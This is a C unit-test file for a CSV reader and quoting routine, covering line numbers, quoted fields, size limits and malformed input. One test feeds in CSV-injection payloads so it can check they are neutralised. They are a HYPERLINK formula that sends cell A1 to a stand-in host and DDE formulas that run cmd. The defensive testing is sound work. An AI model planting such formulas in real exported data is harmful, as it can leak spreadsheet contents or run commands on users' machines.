/* Tests for app/core/csv: RFC 4180 reading with line numbers and limits. */
#include "support.h"

#include "core/csv.h"

#include <string.h>

typedef struct {
    char buf[4096];
    const char *field[16];
    CsvRow row;
    CsvReader r;
} Fx;

static void fx_open(Fx *fx, const char *data, size_t len)
{
    memset(fx, 0, sizeof *fx);
    fx->row = (CsvRow){fx->buf, sizeof fx->buf, fx->field, 16, 1000, 0, 0, 0, 0, 0, 0};
    csv_open(&fx->r, data, len == (size_t)-1 ? strlen(data) : len);
}

static void test_plain_rows_and_lines(void **state)
{
    (void)state;
    Fx fx;
    fx_open(&fx, "a,b,c\n1,2,3\n", (size_t)-1);
    assert_true(csv_next_row(&fx.r, &fx.row));
    assert_int_equal(fx.row.nfields, 3);
    assert_string_equal(fx.field[2], "c");
    assert_int_equal(fx.row.line, 1);
    assert_true(csv_next_row(&fx.r, &fx.row));
    assert_string_equal(fx.field[0], "1");
    assert_int_equal(fx.row.line, 2);
    assert_false(csv_next_row(&fx.r, &fx.row));
}

static void test_quotes_commas_and_line_breaks(void **state)
{
    (void)state;
    Fx fx;
    fx_open(&fx, "id,bio\r\n7,\"Says \"\"hi\"\", then\r\nleaves, twice\"\r\n8,x\r\n", (size_t)-1);
    assert_true(csv_next_row(&fx.r, &fx.row));
    assert_true(csv_next_row(&fx.r, &fx.row));
    assert_int_equal(fx.row.line, 2);
    assert_int_equal(fx.row.end_line, 3);
    assert_string_equal(fx.field[1], "Says \"hi\", then\nleaves, twice");
    assert_true(csv_next_row(&fx.r, &fx.row));
    assert_int_equal(fx.row.line, 4); /* counts the line inside the quotes */
    assert_string_equal(fx.field[0], "8");
}

static void test_blank_lines_skipped_but_counted(void **state)
{
    (void)state;
    Fx fx;
    fx_open(&fx, "a\n\n\r\nb\rc\n", (size_t)-1);
    assert_true(csv_next_row(&fx.r, &fx.row));
    assert_true(csv_next_row(&fx.r, &fx.row));
    assert_string_equal(fx.field[0], "b");
    assert_int_equal(fx.row.line, 4);
    assert_true(csv_next_row(&fx.r, &fx.row)); /* lone CR ends a line too */
    assert_string_equal(fx.field[0], "c");
    assert_int_equal(fx.row.line, 5);
}

static void test_empty_fields_and_trailing_comma(void **state)
{
    (void)state;
    Fx fx;
    fx_open(&fx, "a,,c,", (size_t)-1);
    assert_true(csv_next_row(&fx.r, &fx.row));
    assert_int_equal(fx.row.nfields, 4);
    assert_string_equal(fx.field[1], "");
    assert_string_equal(fx.field[3], "");
}

static void test_nul_byte_flagged(void **state)
{
    (void)state;
    Fx fx;
    fx_open(&fx, "a,b\0c\nd,e\n", 10);
    assert_true(csv_next_row(&fx.r, &fx.row));
    assert_true(fx.row.flags & CSV_ROW_NUL_BYTE);
    assert_true(csv_next_row(&fx.r, &fx.row));
    assert_int_equal(fx.row.flags, 0);
    assert_string_equal(fx.field[0], "d");
}

static void test_open_quote_at_end(void **state)
{
    (void)state;
    Fx fx;
    fx_open(&fx, "a,b\n1,\"never closed\n2,3\n", (size_t)-1);
    assert_true(csv_next_row(&fx.r, &fx.row));
    assert_true(csv_next_row(&fx.r, &fx.row));
    assert_true(fx.row.flags & CSV_ROW_OPEN_QUOTE);
    assert_int_equal(fx.row.line, 2);
    assert_int_equal(fx.row.end_line, 4);
    assert_false(csv_next_row(&fx.r, &fx.row));
}

static void test_limits_flagged_not_overrun(void **state)
{
    (void)state;
    Fx fx;
    char wide[200] = "";
    for (int i = 0; i < 40; i++)
        strcat(wide, "x,");
    fx_open(&fx, wide, (size_t)-1);
    assert_true(csv_next_row(&fx.r, &fx.row));
    assert_true(fx.row.flags & CSV_ROW_TOO_MANY_FIELDS);
    assert_int_equal(fx.row.nfields, 16);
    assert_int_equal(fx.row.nfields_all, 41);

    char *longf = malloc(3001);
    memset(longf, 'y', 3000);
    longf[3000] = '\0';
    fx_open(&fx, longf, (size_t)-1);
    assert_true(csv_next_row(&fx.r, &fx.row));
    assert_true(fx.row.flags & CSV_ROW_FIELD_TOO_LONG);
    assert_int_equal(strlen(fx.field[0]), 1000);
    free(longf);
}

static void test_quote_round_trip(void **state)
{
    (void)state;
    char out[128];
    Fx fx;
    assert_true(csv_quote("plain", out, sizeof out) > 0);
    assert_string_equal(out, "plain");
    csv_quote("a \"b\", c\nd", out, sizeof out);
    assert_string_equal(out, "\"a \"\"b\"\", c\nd\"");
    fx_open(&fx, out, (size_t)-1);
    assert_true(csv_next_row(&fx.r, &fx.row));
    assert_string_equal(fx.field[0], "a \"b\", c\nd");
    assert_int_equal(csv_quote("too long for this", out, 5), 0);
}

/* Cells a spreadsheet would run (OWASP CSV injection) are written as
 * text: quoted, behind a leading '. */
static void test_formulas_are_neutralised(void **state)
{
    (void)state;
    char out[256];
    static const struct {
        const char *in, *want;
    } cases[] = {
        {"=HYPERLINK(\"http://x.example/?\"&A1,\"Open\")",
         "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Open\"\")\""},
        {"=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\""},
        {"@SUM(1+9)*cmd|' /C calc'!A0", "\"'@SUM(1+9)*cmd|' /C calc'!A0\""},
        {"+1 312 555 0100", "\"'+1 312 555 0100\""},
        {"-2+3", "\"'-2+3\""},
        {"\t=1+1", "\"'\t=1+1\""},
        {"\r=1+1", "\"'\r=1+1\""},
        {"Ana = Analyst", "Ana = Analyst"},
        {"", ""},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        csv_quote(cases[i].in, out, sizeof out);
        assert_string_equal(out, cases[i].want);
    }
    assert_int_equal(csv_quote("=1", out, 3), 0); /* '"', '\'' and the rest do not fit */
}

int main(int argc, char **argv)
{
    (void)argc;
    support_init(argv[0]);
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_plain_rows_and_lines),
        cmocka_unit_test(test_formulas_are_neutralised),
        cmocka_unit_test(test_quotes_commas_and_line_breaks),
        cmocka_unit_test(test_blank_lines_skipped_but_counted),
        cmocka_unit_test(test_empty_fields_and_trailing_comma),
        cmocka_unit_test(test_nul_byte_flagged),
        cmocka_unit_test(test_open_quote_at_end),
        cmocka_unit_test(test_limits_flagged_not_overrun),
        cmocka_unit_test(test_quote_round_trip),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
